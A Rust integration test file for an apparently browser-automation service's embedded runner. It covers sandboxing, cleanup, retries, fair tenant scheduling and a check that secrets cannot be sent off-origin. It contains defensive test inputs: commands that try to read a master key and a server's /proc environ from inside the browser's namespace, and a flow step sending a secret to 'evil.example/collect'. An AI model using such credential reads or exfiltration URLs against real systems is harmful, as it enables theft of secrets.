//! The embedded runner of `serve` (issue 22): queued runs execute without any external agent,
//! in an isolated browser that cleans up after itself; a browser crash is a `runner_error`
//! retried once; runs of several tenants drain fairly.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use reqwest::Method;
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::helpers::*;

const PAGE: &str = r#"<!doctype html><html><head><title>Shop</title></head>
<body><h1 id="title">Shop</h1><input id="q"><p id="slow-never">x</p></body></html>"#;

/// A tiny web app on 127.0.0.1:0 serving [`PAGE`] for every path.
pub(crate) async fn serve_page() -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((mut sock, _)) = listener.accept().await else {
                return;
            };
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0u8; 4096];
                while !buf.windows(4).any(|w| w == b"\r\n\r\n") && buf.len() < 65536 {
                    match sock.read(&mut chunk).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
                    }
                }
                let resp = format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{PAGE}",
                    PAGE.len()
                );
                let _ = sock.write_all(resp.as_bytes()).await;
                let _ = sock.shutdown().await;
            });
        }
    });
    format!("http://{addr}")
}

/// A server with `workers` embedded workers whose browser profiles go under `<tmp>/browsers`
/// (world-traversable, so the unprivileged browser user reaches its own profile).
pub(crate) async fn spawn_runner(workers: usize) -> (TestApp, PathBuf) {
    spawn_runner_polling(workers, 200).await
}

/// [`spawn_runner`] with the full scan for queued runs at most every `poll_ms`.
pub(crate) async fn spawn_runner_polling(workers: usize, poll_ms: u64) -> (TestApp, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let profiles = dir.path().join("browsers");
    std::fs::create_dir(&profiles).unwrap();
    std::fs::set_permissions(&profiles, std::fs::Permissions::from_mode(0o755)).unwrap();
    let app = spawn_with(Opts {
        dir: Some(dir),
        env: vec![
            (
                "FLOWGUARD_RUNNER__EMBEDDED_WORKERS".into(),
                workers.to_string(),
            ),
            ("FLOWGUARD_RUNNER__POLL_MS".into(), poll_ms.to_string()),
            ("TMPDIR".into(), profiles.display().to_string()),
        ],
        ..Default::default()
    })
    .await;
    (app, profiles)
}

pub(crate) async fn make_app(owner: &Session, base_url: &str) -> String {
    let a = owner
        .json(
            Method::POST,
            "/api/v1/applications",
            Some(json!({"name": "shop", "base_url": base_url})),
            201,
        )
        .await;
    a["id"].as_str().unwrap().to_string()
}

pub(crate) async fn make_flow(owner: &Session, app: &str, steps: Value) -> String {
    let f = owner
        .json(
            Method::POST,
            &format!("/api/v1/applications/{app}/flows"),
            Some(json!({"name": "flow", "steps": steps})),
            201,
        )
        .await;
    f["id"].as_str().unwrap().to_string()
}

pub(crate) async fn queue(owner: &Session, flow: &str) -> String {
    let r = owner
        .json(
            Method::POST,
            &format!("/api/v1/flows/{flow}/runs"),
            Some(json!({})),
            201,
        )
        .await;
    r["id"].as_str().unwrap().to_string()
}

/// Poll a run until `done(run)` holds (panics after `secs`).
pub(crate) async fn wait_run(
    owner: &Session,
    run: &str,
    secs: u64,
    done: impl Fn(&Value) -> bool,
) -> Value {
    let deadline = Instant::now() + Duration::from_secs(secs);
    loop {
        let d = owner
            .json(Method::GET, &format!("/api/v1/runs/{run}"), None, 200)
            .await;
        if done(&d) {
            return d;
        }
        assert!(Instant::now() < deadline, "run never got there: {d:#}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

pub(crate) fn finished(d: &Value) -> bool {
    !["queued", "running"].contains(&d["status"].as_str().unwrap_or(""))
}

/// `(pid, ppid, state, cmdline)` of every process.
fn processes() -> Vec<(i32, i32, char, String)> {
    let mut out = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Some(pid) = e.file_name().to_str().and_then(|n| n.parse::<i32>().ok()) else {
            continue;
        };
        let Ok(stat) = std::fs::read_to_string(format!("/proc/{pid}/stat")) else {
            continue;
        };
        let Some(i) = stat.rfind(')') else { continue };
        let f: Vec<&str> = stat[i + 1..].split_whitespace().collect();
        let cmd = std::fs::read(format!("/proc/{pid}/cmdline"))
            .map(|b| String::from_utf8_lossy(&b).replace('\0', " "))
            .unwrap_or_default();
        out.push((
            pid,
            f[1].parse().unwrap_or(0),
            f[0].chars().next().unwrap_or('?'),
            cmd,
        ));
    }
    out
}

/// Browser processes whose profile lives under `profiles`.
fn browsers_under(profiles: &Path) -> Vec<(i32, i32, char, String)> {
    let needle = format!("--user-data-dir={}", profiles.display());
    processes()
        .into_iter()
        .filter(|p| p.3.contains(&needle))
        .collect()
}

/// The main browser process (no `--type=`) of a run under `profiles`, once it is up.
async fn main_browser(profiles: &Path) -> i32 {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        if let Some(p) = browsers_under(profiles)
            .into_iter()
            .find(|p| !p.3.contains("--type=") && p.2 != 'Z')
        {
            return p.0;
        }
        assert!(Instant::now() < deadline, "no browser started");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn profile_dirs(profiles: &Path) -> Vec<String> {
    std::fs::read_dir(profiles)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().to_string())
        .filter(|n| n.starts_with("flowguard-browser-profile-"))
        .collect()
}

/// No browser process left, no zombie child of the server, no profile directory.
async fn assert_clean(app: &TestApp, profiles: &Path) {
    let server = app.child.0.id() as i32;
    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let left = browsers_under(profiles);
        let zombies: Vec<_> = processes()
            .into_iter()
            .filter(|p| p.1 == server && p.2 == 'Z')
            .collect();
        let dirs = profile_dirs(profiles);
        if left.is_empty() && zombies.is_empty() && dirs.is_empty() {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "left behind: browsers {left:?}, zombies {zombies:?}, profiles {dirs:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn run_now_without_an_agent_runs_in_the_embedded_runner() {
    let web = serve_page().await;
    let (app, profiles) = spawn_runner(1).await;
    let owner = app.owner().await;
    let r = owner.json(Method::GET, "/api/v1/runners", None, 200).await;
    assert_eq!(r["embedded"]["enabled"], true, "{r:#}");
    assert_eq!(r["embedded"]["workers"], 1);
    assert_eq!(r["embedded"]["no_sandbox"], false, "{r:#}");
    assert_eq!(r["can_run"], true);
    let a = make_app(&owner, &web).await;
    let flow = make_flow(
        &owner,
        &a,
        json!([
            {"type": "navigate", "url": "/"},
            {"type": "fill", "selector": "#q", "value": "shoes"},
            {"type": "assert", "selector": "#title", "assertion": "text_equals", "expected": "Shop"},
            {"type": "screenshot"}
        ]),
    )
    .await;
    // The dashboard's "Run now" is this request; nothing else is started.
    let run = queue(&owner, &flow).await;
    // The live stream delivers every step in order, the screenshot, and ends with the run.
    let r = owner.get(&format!("/api/v1/runs/{run}/events")).await;
    assert_eq!(r.status(), 200);
    assert!(r.headers()["content-type"]
        .to_str()
        .unwrap()
        .starts_with("text/event-stream"));
    let body = tokio::time::timeout(Duration::from_secs(90), r.text())
        .await
        .expect("the event stream did not end with the run")
        .unwrap();
    let events: Vec<(String, Value)> = body
        .split("\n\n")
        .filter_map(|block| {
            let name = block.lines().find_map(|l| l.strip_prefix("event: "))?;
            let data = block.lines().find_map(|l| l.strip_prefix("data: "))?;
            Some((name.to_string(), serde_json::from_str(data).unwrap()))
        })
        .collect();
    let mut passed_steps: Vec<i64> = events
        .iter()
        .filter(|(n, v)| n == "step" && v["status"] == "passed")
        .map(|(_, v)| v["index"].as_i64().unwrap())
        .collect();
    passed_steps.dedup(); // a step may be re-sent when its screenshot lands after its report
    assert_eq!(passed_steps, vec![0, 1, 2, 3], "{body}");
    assert!(
        events
            .iter()
            .any(|(n, v)| n == "screenshot" && v["index"] == 3),
        "{body}"
    );
    let last = events.last().unwrap();
    assert_eq!(last.0, "status", "{body}");
    assert_eq!(last.1["status"], "passed", "{body}");
    let d = wait_run(&owner, &run, 60, finished).await;
    assert_eq!(d["status"], "passed", "{d:#}\n{}", app.log_text());
    assert_eq!(d["runner"], "runner:embedded");
    assert_eq!(d["steps"].as_array().unwrap().len(), 4);
    assert_eq!(d["steps"][3]["has_screenshot"], true);
    let audit = owner
        .json(Method::GET, "/api/v1/audit?action=run.complete", None, 200)
        .await;
    assert!(
        audit.to_string().contains("runner:embedded"),
        "audit actor: {audit:#}"
    );
    assert_clean(&app, &profiles).await;
}

/// `(uid, gid)` of a user from `getent passwd`.
fn user_ids(name: &str) -> (u32, u32) {
    let out = std::process::Command::new("getent")
        .args(["passwd", name])
        .output()
        .unwrap();
    let line = String::from_utf8(out.stdout).unwrap();
    let f: Vec<&str> = line.trim().split(':').collect();
    (f[2].parse().unwrap(), f[3].parse().unwrap())
}

/// `Uid:` of a process.
fn proc_uid(pid: i32) -> u32 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .unwrap()
        .lines()
        .find(|l| l.starts_with("Uid:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .unwrap()
        .parse()
        .unwrap()
}

/// `serve` as a non-root user under MemoryDenyWriteExecute (as the packaged systemd unit runs
/// it): it cannot switch the browser to another user, so every browser starts in its own user +
/// mount namespace where the data dir is an empty tmpfs; the flow still runs, with Chromium's
/// sandbox and JavaScript without JIT.
#[tokio::test]
async fn as_a_non_root_user_the_browser_runs_in_a_namespace_without_the_data_dir() {
    let web = serve_page().await;
    let (uid, gid) = user_ids("nobody");
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let data = dir.path().join("data");
    let profiles = dir.path().join("browsers");
    for d in [&data, &profiles] {
        std::fs::create_dir(d).unwrap();
        std::os::unix::fs::chown(d, Some(uid), Some(gid)).unwrap();
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o700)).unwrap();
    }
    let app = spawn_with(Opts {
        dir: Some(dir),
        // Like the packaged unit: MemoryDenyWriteExecute (here prctl PR_SET_MDWE, inherited
        // by every child) and a non-root user.
        wrap: vec![
            "python3".into(),
            "-c".into(),
            "import ctypes,os,sys\nassert ctypes.CDLL(None).prctl(65, 1, 0, 0, 0) == 0\nos.execvp(sys.argv[1], sys.argv[1:])".into(),
            "setpriv".into(),
            format!("--reuid={uid}"),
            format!("--regid={gid}"),
            "--clear-groups".into(),
        ],
        env: vec![
            ("FLOWGUARD_RUNNER__EMBEDDED_WORKERS".into(), "1".into()),
            ("FLOWGUARD_RUNNER__POLL_MS".into(), "200".into()),
            ("TMPDIR".into(), profiles.display().to_string()),
        ],
        ..Default::default()
    })
    .await;
    let server = app.child.0.id() as i32;
    assert_eq!(proc_uid(server), uid, "the server does not run as nobody");
    let owner = app.owner().await;
    let r = owner.json(Method::GET, "/api/v1/runners", None, 200).await;
    assert_eq!(r["embedded"]["enabled"], true, "{r:#}\n{}", app.log_text());
    assert_eq!(r["embedded"]["no_sandbox"], false, "{r:#}");
    assert!(
        r["embedded"]["warnings"].to_string().contains("--jitless"),
        "{r:#}"
    );
    let a = make_app(&owner, &web).await;
    let flow = make_flow(
        &owner,
        &a,
        json!([
            {"type": "navigate", "url": "/"},
            {"type": "assert", "selector": "#title", "assertion": "text_equals", "expected": "Shop"},
            {"type": "wait", "for": "timeout", "timeout_ms": 6000},
            {"type": "screenshot"}
        ]),
    )
    .await;
    let run = queue(&owner, &flow).await;
    wait_run(&owner, &run, 60, |d| d["steps"][1]["status"] == "passed").await;
    let pid = main_browser(&profiles).await;
    assert_eq!(proc_uid(pid), uid);
    // Chromium's sandbox is on, and the browser is in a user namespace of its own.
    assert!(!browsers_under(&profiles)
        .iter()
        .any(|p| p.3.contains("--no-sandbox")));
    let ns = |p: &str| std::fs::read_link(format!("/proc/{p}/ns/user")).unwrap();
    assert_ne!(
        ns(&pid.to_string()),
        ns("self"),
        "the browser shares our user namespace"
    );

    let key = app.data.join("keys/master.key");
    let secret = std::fs::read(&key).expect("master key");
    assert!(!secret.is_empty());
    // The browser's view of the file system: the data dir is there, but empty.
    let seen = std::fs::read(format!("/proc/{pid}/root{}", key.display()));
    assert!(
        seen.is_err(),
        "the master key is visible in the browser's mount namespace"
    );
    let listing: Vec<_> = std::fs::read_dir(format!("/proc/{pid}/root{}", app.data.display()))
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(
        listing.is_empty(),
        "data dir seen by the browser: {listing:?}"
    );
    // As the browser itself (its namespaces, its uid): neither the key nor a way round through
    // the server's /proc entry.
    for path in [
        key.display().to_string(),
        format!("/proc/{server}/root{}", key.display()),
        format!("/proc/{server}/environ"),
    ] {
        let out = std::process::Command::new("nsenter")
            .args([
                "-t".to_string(),
                pid.to_string(),
                "-U".into(),
                "-m".into(),
                format!("-S{uid}"),
                format!("-G{gid}"),
                "cat".into(),
                path.clone(),
            ])
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && out.stdout.is_empty(),
            "the browser read {path}: {err}"
        );
        assert!(
            err.contains("No such file") || err.contains("Permission denied"),
            "{path}: {err}"
        );
    }
    // From outside the namespace (same uid): the server is not dumpable, so its /proc entry
    // does not lead to the key either.
    let out = std::process::Command::new("setpriv")
        .args([
            format!("--reuid={uid}"),
            format!("--regid={gid}"),
            "--clear-groups".into(),
            "cat".into(),
            format!("/proc/{server}/root{}", key.display()),
        ])
        .output()
        .unwrap();
    assert!(
        !out.status.success(),
        "nobody read the key through /proc/{server}/root"
    );

    let d = wait_run(&owner, &run, 60, finished).await;
    assert_eq!(d["status"], "passed", "{d:#}\n{}", app.log_text());
    assert_eq!(d["steps"][3]["has_screenshot"], true);
    assert_clean(&app, &profiles).await;
}

#[tokio::test]
async fn without_chromium_the_server_starts_and_says_why_the_runner_is_off() {
    let app = spawn_with(Opts {
        env: vec![
            ("FLOWGUARD_RUNNER__EMBEDDED_WORKERS".into(), "1".into()),
            (
                "FLOWGUARD_RUNNER__CHROMIUM".into(),
                "/nonexistent/chromium".into(),
            ),
        ],
        ..Default::default()
    })
    .await;
    let r = app.client().get(app.url("/readyz")).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let owner = app.owner().await;
    let r = owner.json(Method::GET, "/api/v1/runners", None, 200).await;
    assert_eq!(r["embedded"]["enabled"], false, "{r:#}");
    assert!(
        r["embedded"]["reason"]
            .as_str()
            .unwrap()
            .contains("/nonexistent/chromium"),
        "{r:#}"
    );
    assert_eq!(r["can_run"], false);
    assert!(r["how_to_start_agent"]
        .as_str()
        .unwrap()
        .contains("flowguard agent run"));
}

#[tokio::test]
async fn a_killed_browser_is_a_runner_error_retried_once_and_leaves_nothing_behind() {
    let web = serve_page().await;
    let (app, profiles) = spawn_runner(1).await;
    let owner = app.owner().await;
    let a = make_app(&owner, &web).await;
    let flow = make_flow(
        &owner,
        &a,
        json!([
            {"type": "navigate", "url": "/"},
            {"type": "wait", "for": "selector", "selector": "#never", "timeout_ms": 60000}
        ]),
    )
    .await;
    let run = queue(&owner, &flow).await;
    wait_run(&owner, &run, 30, |d| d["steps"][0]["status"] == "passed").await;
    let pid = main_browser(&profiles).await;

    // The event stream delivers while the run is still running (not buffered to its end).
    let mut live = owner.get(&format!("/api/v1/runs/{run}/events")).await;
    assert_eq!(live.status(), 200);
    let mut first = String::new();
    while !(first.contains("event: step") && first.contains("event: status")) {
        let chunk = tokio::time::timeout(Duration::from_secs(10), live.chunk())
            .await
            .expect("no event while the run is running")
            .unwrap()
            .expect("stream ended early");
        first.push_str(&String::from_utf8_lossy(&chunk));
    }
    assert!(first.contains("\"status\":\"running\""), "{first}");

    // The browser runs as an unprivileged user that cannot open the master key.
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let uid: u32 = status
        .lines()
        .find(|l| l.starts_with("Uid:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .unwrap()
        .parse()
        .unwrap();
    assert_ne!(uid, 0, "the browser runs as root");
    let key = app.data.join("keys/master.key");
    assert!(key.is_file(), "no master key at {}", key.display());
    let open = std::process::Command::new("setpriv")
        .args([
            format!("--reuid={uid}"),
            format!("--regid={uid}"),
            "--clear-groups".into(),
            "cat".into(),
            key.display().to_string(),
        ])
        .output()
        .unwrap();
    assert!(
        !open.status.success(),
        "the browser user read the master key"
    );
    assert!(
        String::from_utf8_lossy(&open.stderr).contains("Permission denied"),
        "{}",
        String::from_utf8_lossy(&open.stderr)
    );

    // kill -9 of the browser mid-run: error/runner_error, never failed.
    unsafe {
        libc::kill(pid, libc::SIGKILL);
    }
    let d = wait_run(&owner, &run, 30, finished).await;
    assert_eq!(d["status"], "error", "{d:#}");
    assert_eq!(d["reason"], "runner_error", "{d:#}");

    // Retried once: a new run of the same flow with retry_of; killing it too ends it the same
    // way and queues nothing more.
    let list = owner
        .json(
            Method::GET,
            &format!("/api/v1/applications/{a}/runs"),
            None,
            200,
        )
        .await;
    let items = list["items"]
        .as_array()
        .unwrap_or_else(|| list.as_array().unwrap())
        .clone();
    let retry = items
        .iter()
        .find(|r| r["retry_of"] == run.as_str())
        .unwrap_or_else(|| panic!("no retry: {list:#}"))["id"]
        .as_str()
        .unwrap()
        .to_string();
    wait_run(&owner, &retry, 30, |d| d["steps"][0]["status"] == "passed").await;
    let pid2 = main_browser(&profiles).await;
    unsafe {
        libc::kill(pid2, libc::SIGKILL);
    }
    let d2 = wait_run(&owner, &retry, 30, finished).await;
    assert_eq!(d2["status"], "error", "{d2:#}");
    assert_eq!(d2["reason"], "runner_error");
    tokio::time::sleep(Duration::from_millis(500)).await;
    let list = owner
        .json(
            Method::GET,
            &format!("/api/v1/applications/{a}/runs"),
            None,
            200,
        )
        .await;
    let n = list["items"]
        .as_array()
        .unwrap_or_else(|| list.as_array().unwrap())
        .len();
    assert_eq!(n, 2, "a retry was retried: {list:#}");
    assert_clean(&app, &profiles).await;
}

#[tokio::test]
async fn runs_of_three_tenants_drain_fairly() {
    let web = serve_page().await;
    let (app, profiles) = spawn_runner(1).await;
    let mut owners = vec![app.owner().await];
    for (name, email) in [("beta", "b@beta.test"), ("gamma", "c@gamma.test")] {
        let (tid, pw) = create_tenant(&app, name, email);
        owners.push(app.login(Some(&tid), email, &pw).await);
    }
    let mut flows = Vec::new();
    for o in &owners {
        let a = make_app(o, &web).await;
        flows.push(make_flow(o, &a, json!([{"type": "navigate", "url": "/"}])).await);
    }
    // Tenant after tenant: the first tenant's ten runs are all queued before the others'.
    let mut runs: Vec<Vec<String>> = Vec::new();
    for (o, flow) in owners.iter().zip(&flows) {
        let mut ids = Vec::new();
        for _ in 0..10 {
            ids.push(queue(o, flow).await);
        }
        runs.push(ids);
    }
    let mut started: Vec<(String, usize)> = Vec::new();
    for (t, (o, ids)) in owners.iter().zip(&runs).enumerate() {
        for id in ids {
            let d = wait_run(o, id, 180, finished).await;
            assert_eq!(d["status"], "passed", "{d:#}");
            started.push((d["started_at"].as_str().unwrap().to_string(), t));
        }
    }
    started.sort();
    // Round robin: every window of three consecutive claims serves each tenant once (the
    // first run may have started before the other tenants had queued anything).
    let order: Vec<usize> = started.iter().map(|s| s.1).collect();
    let first_all = order.iter().position(|t| *t == 2).unwrap();
    for w in order[first_all..first_all + 9].chunks(3) {
        let mut w = w.to_vec();
        w.sort();
        assert_eq!(w, vec![0, 1, 2], "unfair order: {order:?}");
    }
    assert_clean(&app, &profiles).await;
}

/// Issue 25: a claim opens only the stores of tenants that may have queued runs (the hints the
/// queueing request leaves), not every tenant's. With the full scan at most once a minute, a
/// run queued in another tenant after the runner went idle must still start at once — through
/// its hint; without it the run would wait for the next full scan (up to 60 s).
#[tokio::test]
async fn a_run_queued_in_another_tenant_is_claimed_at_once_through_its_hint() {
    let web = serve_page().await;
    let (app, profiles) = spawn_runner_polling(1, 60_000).await;
    let a = app.owner().await;
    let (tid, pw) = create_tenant(&app, "beta", "b@beta.test");
    let b = app.login(Some(&tid), "b@beta.test", &pw).await;
    let shop = make_app(&b, &web).await;
    let flow = make_flow(&b, &shop, json!([{"type": "navigate", "url": "/"}])).await;
    // One run in the first tenant too, so both stores have been looked at and found empty.
    let shop_a = make_app(&a, &web).await;
    let flow_a = make_flow(&a, &shop_a, json!([{"type": "navigate", "url": "/"}])).await;
    let first = queue(&a, &flow_a).await;
    assert_eq!(wait_run(&a, &first, 60, finished).await["status"], "passed");
    for owner_flow in [(&b, &flow), (&a, &flow_a)] {
        let run = queue(owner_flow.0, owner_flow.1).await;
        let d = wait_run(owner_flow.0, &run, 60, finished).await;
        assert_eq!(d["status"], "passed", "{d:#}");
        let at = |k: &str| {
            chrono::DateTime::parse_from_rfc3339(d[k].as_str().unwrap())
                .unwrap_or_else(|e| panic!("{k}: {e}: {d:#}"))
        };
        let waited = at("started_at") - at("queued_at");
        assert!(
            waited < chrono::Duration::seconds(10),
            "the run waited {waited} for a claim (a full scan, not its hint): {d:#}"
        );
    }
    assert_clean(&app, &profiles).await;
}

/// Set the modification time of a store's database and WAL to `at`.
fn age_store(path: &Path, at: std::time::SystemTime) {
    for f in [
        path.to_path_buf(),
        PathBuf::from(format!("{}-wal", path.display())),
    ] {
        if let Ok(file) = std::fs::OpenOptions::new().write(true).open(&f) {
            file.set_modified(at).unwrap();
        }
    }
}

/// Issue 25: the passes that only look for queued or running runs (the runner's full scan, the
/// queued-runs gauge, the agent time-outs) or for scheduled flows (the `schedules` job) skip a
/// store they found without any while its files stay unchanged — and read it again after any
/// commit. The commit here comes from a second
/// connection, as from another process, and the files are then set back to the very same old
/// times (a file system with timestamps coarser than the commit), so only the sizes differ.
#[test]
fn the_full_scan_skips_only_stores_whose_files_did_not_change() {
    use flowguard::audit::{Actor, NewAuditEvent};
    use flowguard::config::{CliOverrides, Settings};
    use flowguard::service::runner::{queued_pairs_in, queued_per_app_blocking, Found, ScanPlan};
    use flowguard::store::{applications, flows, runs};
    let dir = tempfile::tempdir().unwrap();
    let settings = Settings::load(
        None,
        &CliOverrides {
            data_dir: Some(dir.path().join("data")),
            listen: None,
        },
    )
    .unwrap();
    let opened = flowguard::startup::open_data_dir(&settings, true).unwrap();
    let state = std::sync::Arc::new(
        flowguard::startup::build_state(std::sync::Arc::new(settings), opened).unwrap(),
    );
    let hash = flowguard::auth::password::hash_blocking("a-long-owner-password").unwrap();
    let t = flowguard::service::tenants::create_tenant(
        &state,
        "acme",
        "o@acme.test",
        &hash,
        false,
        None,
    )
    .unwrap();
    let actor = Actor {
        email: Some("test".into()),
        role: None,
        client_ip: None,
        user_agent: None,
    };
    {
        let db = state.tenants.get_blocking(&t).unwrap();
        let mut c = db.lock();
        let now = flowguard::domain::now_rfc3339();
        applications::insert_application(
            &mut c,
            &applications::ApplicationRow {
                id: "app-1".into(),
                name: "shop".into(),
                base_url: "https://shop.example".into(),
                repo_url: None,
                created_at: now.clone(),
                updated_at: now,
            },
            None,
            &NewAuditEvent::new(&actor, "application.create", None),
        )
        .unwrap();
        flows::insert_flow(
            &mut c,
            "flow-1",
            "app-1",
            &flows::NewVersion {
                name: "f",
                tags: "[]",
                source: "manual",
                steps: r#"[{"type":"navigate","url":"/"}]"#,
                created_by: "test",
            },
            &NewAuditEvent::new(&actor, "flow.create", None),
        )
        .unwrap();
    }
    let path = state.tenants.path_of(&t);
    let old = std::time::SystemTime::now() - Duration::from_secs(60);
    // Just written: not skipped (the files are not quiet yet), read and found idle.
    assert!(queued_pairs_in(&state, &ScanPlan::Full).is_empty());
    assert!(!state
        .runner
        .found_nothing_unchanged(Found::NoActiveRuns, &state.tenants, &t));
    age_store(&path, old);
    assert!(queued_pairs_in(&state, &ScanPlan::Full).is_empty());
    assert!(
        state
            .runner
            .found_nothing_unchanged(Found::NoActiveRuns, &state.tenants, &t),
        "a quiet, idle store is skipped by the next pass"
    );
    // The schedules job: no scheduled flow in a quiet store, skipped next time too.
    assert_eq!(
        flowguard::service::runs::queue_scheduled_blocking(&state),
        0
    );
    assert!(state
        .runner
        .found_nothing_unchanged(Found::NoSchedules, &state.tenants, &t));
    // Another connection queues a run; the files get the same old times back.
    {
        let keys = {
            let cat = state.catalog.db().lock();
            flowguard::store::catalog::usable_keys(
                &cat,
                &t,
                flowguard::crypto::keyring::KeyPurpose::Db,
            )
            .unwrap()
        };
        let (v, w) = keys.first().unwrap();
        let key = flowguard::crypto::keyring::unwrap(
            &state.master,
            &t,
            *v,
            flowguard::crypto::keyring::KeyPurpose::Db,
            w,
        )
        .unwrap();
        let mut other = flowguard::store::open_tenant_schema_for_bench(&path, Some(&key)).unwrap();
        runs::queue_run(&mut other, "run-1", "flow-1", "schedule", "schedule", None).unwrap();
        drop(other);
    }
    age_store(&path, old);
    assert!(
        !state
            .runner
            .found_nothing_unchanged(Found::NoActiveRuns, &state.tenants, &t),
        "a store another connection wrote is read again"
    );
    assert!(!state
        .runner
        .found_nothing_unchanged(Found::NoSchedules, &state.tenants, &t));
    assert_eq!(
        queued_pairs_in(&state, &ScanPlan::Full),
        vec![(t.clone(), "app-1".to_string())]
    );
    assert_eq!(
        queued_per_app_blocking(&state),
        vec![(t.clone(), "app-1".to_string(), 1)]
    );
    // Not idle while the run is queued, even once the files are quiet again.
    age_store(&path, old);
    assert!(!state
        .runner
        .found_nothing_unchanged(Found::NoActiveRuns, &state.tenants, &t));
}

/// Issue 25, end to end: a run queued by another process (`flowguard jobs run schedules` beside
/// `serve`, no hint) is claimed by the next full scan, which skips only stores whose files did
/// not change since it found them idle (the skip itself:
/// [`the_full_scan_skips_only_stores_whose_files_did_not_change`]).
#[tokio::test]
async fn a_run_queued_by_another_process_is_found_by_the_full_scan() {
    let web = serve_page().await;
    let (app, profiles) = spawn_runner_polling(1, 300).await;
    let owner = app.owner().await;
    let shop = make_app(&owner, &web).await;
    let flow = make_flow(&owner, &shop, json!([{"type": "navigate", "url": "/"}])).await;
    owner
        .json(
            Method::PUT,
            &format!("/api/v1/flows/{flow}/schedule"),
            Some(json!({"cron": "0 0 * * * *", "timezone": "UTC"})),
            200,
        )
        .await;
    // The store goes quiet (2 s) and full scans (every 300 ms) find it idle.
    tokio::time::sleep(Duration::from_secs(4)).await;
    let as_of = (chrono::Utc::now() + chrono::Duration::hours(2)).to_rfc3339();
    let out = run_cli(&[
        "jobs",
        "run",
        "schedules",
        "--as-of",
        &as_of,
        "--data-dir",
        app.data.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let queued_by_cli = chrono::Utc::now();
    let deadline = Instant::now() + Duration::from_secs(60);
    let run = loop {
        let l = owner
            .json(
                Method::GET,
                &format!("/api/v1/applications/{shop}/runs"),
                None,
                200,
            )
            .await;
        let items = l["items"].as_array().unwrap().clone();
        if let Some(r) = items.first().filter(|r| finished(r)) {
            assert_eq!(items.len(), 1, "{l:#}");
            break r.clone();
        }
        assert!(
            Instant::now() < deadline,
            "the run queued by the CLI never ran: {l:#}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    };
    assert_eq!(run["status"], "passed", "{run:#}");
    assert_eq!(run["trigger"], "schedule", "{run:#}");
    let started =
        chrono::DateTime::parse_from_rfc3339(run["started_at"].as_str().unwrap()).unwrap();
    let waited = started.with_timezone(&chrono::Utc) - queued_by_cli;
    assert!(
        waited < chrono::Duration::seconds(15),
        "claimed {waited} after the CLI queued it: {run:#}"
    );
    assert_clean(&app, &profiles).await;
}

#[tokio::test]
async fn a_secret_sent_outside_the_application_origin_is_refused_on_save() {
    let app = spawn_app().await;
    let owner = app.owner().await;
    let a = make_app(&owner, "https://shop.example").await;
    owner
        .json(
            Method::PUT,
            &format!("/api/v1/applications/{a}/variables/tok"),
            Some(json!({"value": "s3cret-value", "secret": true})),
            200,
        )
        .await;
    let save = |steps: Value| {
        let owner = &owner;
        let a = a.clone();
        async move {
            owner
                .post(
                    &format!("/api/v1/applications/{a}/flows"),
                    json!({"name": "f", "steps": steps}),
                )
                .await
        }
    };
    let r = save(json!([
        {"type": "navigate", "url": "/"},
        {"type": "navigate", "url": "https://evil.example/collect?t={{tok}}"}
    ]))
    .await;
    assert_eq!(r.status(), 422);
    let p: Value = r.json().await.unwrap();
    assert_eq!(p["code"], "secret_outside_origin", "{p:#}");
    assert_eq!(p["field"], "steps[1].url", "{p:#}");
    assert!(p["detail"].as_str().unwrap().contains("step 1"), "{p:#}");
    assert!(!p.to_string().contains("s3cret-value"));

    let r = save(json!([
        {"type": "navigate", "url": "/"},
        {"type": "assert", "selector": "#t", "assertion": "text_equals", "expected": "{{tok}}"}
    ]))
    .await;
    assert_eq!(r.status(), 422);
    let p: Value = r.json().await.unwrap();
    assert_eq!(p["code"], "secret_outside_origin");
    assert_eq!(p["field"], "steps[1].expected");

    // The application's own origin is fine, and so is a non-secret variable anywhere.
    let r = save(json!([
        {"type": "navigate", "url": "/login?t={{tok}}"},
        {"type": "navigate", "url": "https://shop.example/x?t={{tok}}"}
    ]))
    .await;
    assert_eq!(r.status(), 201);
    let flow: Value = r.json().await.unwrap();
    // A new version is checked the same way.
    let r = owner
        .req(
            Method::PUT,
            &format!("/api/v1/flows/{}", flow["id"].as_str().unwrap()),
            Some(json!({"name": "f", "steps": [{"type": "navigate", "url": "//evil.example/?t={{tok}}"}]})),
        )
        .await;
    assert_eq!(r.status(), 422);
    let p: Value = r.json().await.unwrap();
    assert_eq!(p["code"], "secret_outside_origin");
    assert_eq!(p["field"], "steps[0].url");
}

/// `flowguard doctor --json` with runner settings as environment overrides.
